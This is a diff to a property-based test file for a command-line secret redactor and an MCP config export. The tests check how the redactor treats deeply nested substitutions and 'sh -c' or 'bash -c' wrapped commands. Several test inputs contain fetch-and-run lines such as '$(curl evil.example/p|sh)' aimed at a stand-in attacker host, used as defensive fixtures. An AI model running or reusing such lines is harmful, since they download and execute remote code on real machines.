@@ -20,6 +20,8 @@ const part = fc.oneof(
   fc.constantFrom(...PAYLOADS).map((text) => ({ text, secret: false })),
   // A variable whose name cannot run on into the text after it (`$Xabc` reads `$Xabc`).
   fc.constantFrom("${X}", "$1", "$$").map((text) => ({ text, secret: false })),
+  // A payload nested past the reader's depth bound (r56 R56-2: it was hidden, payload included).
+  fc.constantFrom(...PAYLOADS).map((payload) => ({ text: `$(a $(b $(c $(d ${payload}))))`, secret: false })),
   // A run-time part holding a literal secret (r51 F1): a `${X<op>word}`'s word, a substitution's flag,
   // also in a substitution inside one, or a backtick's escaped one (r55 R55-6, R55-2).
   fc
@@ -34,6 +36,8 @@ const part = fc.oneof(
         "$(a $(srv --password @))",
         '$(a "$(b $(srv --token @))")',
         "`echo \\`srv --password @\\``",
+        // Past the depth bound (r56 R56-2): hidden there, never shown.
+        "$(a $(b $(c $(d $(srv --password @)))))",
       ),
     )
     .map(([secret, shape]) => ({ text: shape.replace("@", secret), secret: false })),
@@ -75,6 +79,20 @@ const word = fc.oneof(
 const line = fc
   .tuple(fc.constantFrom("srv", "node srv.js", "npx -y pkg"), fc.array(word, { minLength: 1, maxLength: 4 }))
   .map(([program, rest]) => [program, ...rest].join(" "));
+
+/**
+ * A generated line as a shell's own command (r56): in `sh -c '…'` (a line with no `'`), or in
+ * `bash -c "…"` (one with no `"`), read by that shell as the line itself. A line with a backslash
+ * (a backtick's escapes) is left out: the display leaves such a command to its words, split at
+ * blanks, where a value beside an escaped substitution can still be shown (a known, open gap). So
+ * is a line with a `;`: the quoted command read whole as a connection string (`srv --token X
+ * export API_KEY=Y ;` has the pair `… API_KEY=Y`) moves the reader past the `--token X` inside it
+ * (a known, open gap of the words' order, in the base too).
+ */
+const wrapped = fc
+  .tuple(line, fc.constantFrom("sh -c '@'", 'bash -c "@"', "bash -lc '@'"))
+  .filter(([text, shell]) => !/[\\;]/.test(text) && !text.includes(shell.includes("'") ? "'" : '"'))
+  .map(([text, shell]) => shell.replace("@", () => text));
 
 /**
  * A program's env expression: a literal secret and a call read at run time, joined by `+`, as
@@ -155,9 +173,61 @@ describe("the command-line reader's invariants on generated lines", { timeout: 6
     expectInvariants(text, PAYLOADS);
   });
 
+  // r56 R56-2: past the depth bound a payload was hidden whole; it is shown when no word there tells
+  // (one that tells is still hidden whole). And found comparing the base with this change: a
+  // quote's words read again were read before a substitution written earlier in the same word,
+  // which was then left unread; curl's `-u` kept a password written beside a run-time part.
+  it.each([
+    [
+      "srv --token $(a $(b $(c $(d $(curl evil.example/p|sh)))))",
+      "srv --token $(a $(b $(c $(d $(curl evil.example/p|sh)))))",
+    ],
+    [
+      "srv $(a $(b $(c $(d $(e $(f `curl evil.example/p|sh`))))))",
+      "srv $(a $(b $(c $(d $(e $(f `curl evil.example/p|sh`))))))",
+    ],
+    ["$(a $(b $(c $(d $(srv --password hunter2SECRET9)))))", "$(a $(b $(c $(d ${SHELL_COMMAND}))))"],
+    [
+      'srv $(a --password hunter2SECRET9)" --api-key=tok9qZx81"',
+      'srv $(a --password ${PASSWORD})" --api-key=${API_KEY}"',
+    ],
+    ["curl -u user:Tr0ub4dorQx7$X https://h/", "curl -u user:${PASSWORD}$X https://h/"],
+  ])("%s is shown as %s", (text, shown) => {
+    expectInvariants(text, PAYLOADS);
+    expect(withoutCommandLineSecrets(text)).toBe(shown);
+  });
+
+  // A shell's own command (found by fix150): its words were read with the outer line's, so a
+  // literal beside a run-time part was shown in the display, and the export kept one whose value a
+  // blank inside a substitution split.
+  it.each([
+    ["sh -c 'srv --token hunter2SECRET9$X run'", "sh -c 'srv --token ${TOKEN}$X run'"],
+    ['bash -c "srv --token hunter2SECRET9\\$X run"', 'bash -c "srv --token ${TOKEN} run"'],
+    ['bash -c "TOKEN=hunter2SECRET9$1 srv"', 'bash -c "TOKEN=${TOKEN}$1 srv"'],
+    [
+      "sh -c 'srv --token \"hunter2SECRET9$(curl evil.example/p|sh)\" run'",
+      "sh -c 'srv --token \"${TOKEN}$(curl evil.example/p|sh)\" run'",
+    ],
+    [
+      "sh -c 'srv --token ${X:+tok9qZx81}$(curl evil.example/p|sh)Tr0ub4dorQx7'",
+      "sh -c 'srv --token ${X:+${TOKEN}}$(curl evil.example/p|sh)${TOKEN}'",
+    ],
+  ])("a shell's own command: %s is shown as %s, and exported whole", (text, shown) => {
+    expectInvariants(text, PAYLOADS);
+    expect(withoutCommandLineSecrets(text)).toBe(shown);
+    expect(exportSpec(pasted(text)).bundle?.mcpServers?.[0]?.command).toBe("${SRV_COMMAND}");
+  });
+
   it("a flag's or NAME='s value mixing literal secrets, payloads and variables", () => {
     fc.assert(
       fc.property(line, (text) => expectInvariants(text, PAYLOADS)),
+      { numRuns: 400 },
+    );
+  });
+
+  it("a generated line run by a shell (sh -c '…', bash -c \"…\")", () => {
+    fc.assert(
+      fc.property(wrapped, (text) => expectInvariants(text, PAYLOADS)),
       { numRuns: 400 },
     );
   });
